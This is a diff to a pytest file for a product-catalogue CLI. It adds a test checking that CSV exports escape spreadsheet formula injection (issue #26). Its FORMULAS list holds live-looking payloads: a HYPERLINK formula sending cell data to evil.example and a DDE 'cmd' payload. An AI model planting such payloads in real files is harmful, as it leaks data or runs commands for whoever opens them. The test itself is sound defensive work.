@@ -2,11 +2,16 @@
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import json
 from pathlib import Path
 
+import pytest
+
+from storage import db
 from tests.fakes.cli import invoke
+from tests.fakes.databases import truncate
 
 PRODUCTS = """sku,name,category,price,currency,attr_material,attr_weight
 RUN-1,Road Runner,running-shoes,120,EUR,mesh,280 g
@@ -95,3 +100,38 @@ def test_approve_all_with_a_reject_approves_all_but_the_rejected(isolated: Path)
     assert code == 0 and output.startswith("2 draft(s) decided")
     code, output = invoke("products", "export", "--format", "jsonl", "--out", "out.jsonl")
     assert code == 0 and [json.loads(line)["sku"] for line in Path("out.jsonl").read_text().splitlines()] == ["RUN-1"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Sale")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]
+
+
+async def _emptied(url: str) -> None:
+    async with db.database(url):
+        if url.startswith("postgres"):
+            await truncate()
+
+
+def test_a_csv_export_runs_no_formula_in_a_spreadsheet(
+    backend: str, isolated: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A product named like a formula is exported as text (a leading ', as OWASP recommends): a spreadsheet shows
+    it and runs nothing; JSONL keeps it as it is (issue #26)."""
+    asyncio.run(_emptied(backend))
+    monkeypatch.setenv("CHATCAST_DATABASE_URL", backend)
+    with (isolated / "products.csv").open("w", encoding="utf-8", newline="") as f:
+        rows = [(f"F-{n}", name, "gadgets", 10, "EUR") for n, name in enumerate(FORMULAS)]
+        csv.writer(f).writerows([("sku", "name", "category", "price", "currency"), *rows])
+    assert invoke("import", "products", "products.csv")[0] == 0
+    assert invoke("products", "describe", "--all", "--language", "en")[0] == 0
+    assert invoke("products", "review", "--approve-all")[0] == 0
+    code, output = invoke("products", "export", "--format", "csv", "--out", "out.csv")
+    assert code == 0 and f"Wrote {len(FORMULAS)} approved description(s)" in output
+    with (isolated / "out.csv").open(encoding="utf-8", newline="") as f:
+        exported = list(csv.DictReader(f))
+    assert sorted(r["name"] for r in exported) == sorted("'" + name for name in FORMULAS)
+    cells = [cell for row in exported for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert any(r["description"].startswith("'=HYPERLINK(") for r in exported)  # the text begins with the name
+    invoke("products", "export", "--format", "jsonl", "--out", "out.jsonl")
+    lines = [json.loads(line) for line in (isolated / "out.jsonl").read_text(encoding="utf-8").splitlines()]
+    assert sorted(x["name"] for x in lines) == sorted(FORMULAS)  # data, not a spreadsheet: as it is
